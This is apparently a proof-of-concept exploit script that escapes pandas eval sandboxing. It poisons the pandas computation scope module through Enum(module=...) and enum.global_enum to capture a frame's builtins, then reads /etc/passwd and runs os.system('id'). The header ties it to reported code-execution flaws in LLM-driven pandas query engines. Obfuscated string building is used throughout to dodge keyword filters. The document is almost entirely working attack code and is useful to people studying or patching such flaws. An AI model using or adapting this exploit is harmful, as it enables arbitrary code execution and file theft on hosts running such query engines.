# source: pandas eval scope captures the caller frame's globals (pandas/core/computation/scope.py, Scope.__init__ uses
#         sys._getframe(level).f_globals; llama-index PandasQueryEngine RCE reports https://github.com/run-llama/llama_index/issues/10439
#         and /issues/22232 show pandas eval as a door); module poisoning idea as in 002 + enum.global_enum docs
# family: write a public name into another module's globals (Enum(module=...) + enum.global_enum) -> the library hands its
#         frame globals to our hook; DataFrame.eval(level=...) picks a pandas frame whose globals hold the builtins dict
# goal: builtins dict -> open("/etc/passwd"), __import__("os"), os.system("id")
import enum
import functools
import pandas as pd

seen = []


class Chain:
    def new_child(self, m):
        seen.append(m)
        return self


def factory(*a, **k):
    return Chain()


Hooks = enum.Enum("Hooks", [("DeepChainMap", (factory,))], module="pandas.core.computation.scope", type=functools.partial)
enum.global_enum(Hooks)
df = pd.DataFrame({"a": [1, 2], "b": [3, 4]})
try:
    df.eval("a + b", level=-2)
except Exception:
    pass
g = seen[0]
u = chr(95) * 2
bd = g[u + "builtins" + u]
print(g[u + "name" + u], type(bd), len(bd))
print(bd["op" + "en"]("".join([chr(47), "etc", chr(47), "passwd"])).read())
osmod = bd[u + "import" + u]("o" + "s")
print(osmod)
bd["va" + "rs"](osmod)["sys" + "tem"]("id")
